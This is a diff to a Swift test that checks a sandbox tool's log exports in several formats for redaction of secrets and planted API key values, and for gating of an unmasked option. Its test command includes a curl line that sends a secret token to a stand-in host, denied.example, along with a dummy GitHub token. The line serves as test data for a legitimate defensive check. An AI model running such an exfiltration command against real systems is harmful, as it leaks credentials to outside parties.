@@ -7,6 +7,7 @@ struct Exports {
   @Test("A real session is exported whole in each format, without its secrets")
   func formats() throws {
     let walls = try Walls()
+    #expect(try walls.run(": 'X-Api-Key: planted-value'").status == 0)
     let run = try walls.run(
       "echo x > new; cat README; curl -s -m 5 http://denied.example/?token=\(Walls.secret); sh -c ': --token ghp_0123456789abcdefABCDEF0123456789abcd'; true"
     )
@@ -17,9 +18,12 @@ struct Exports {
     for format in ["jsonl", "ocsf", "syslog", "otlp", "atif", "opa"] {
       let text = try Self.export(walls, ["--format", format])
       #expect(!text.contains("ghp_0123456789"), "\(format)")
-      #expect(format == "opa" || !text.contains(Walls.secret), "\(format)")
+      #expect(!text.contains(Walls.secret), "\(format)")
+      #expect(!text.contains("planted-value"), "\(format)")
       #expect(text.contains("denied.example"), "\(format)")
     }
+    #expect(try Self.export(walls, ["--format", "opa", "--unmasked"]).contains("planted-value"))
+    #expect(try walls.bailey(["log", "export", "--format", "ocsf", "--unmasked"]).status == 2)
     let hashed = try Self.export(walls, ["--format", "jsonl", "--hash-paths"])
     #expect(!hashed.contains(walls.scratch.path))
     #expect(hashed.contains("path-"))
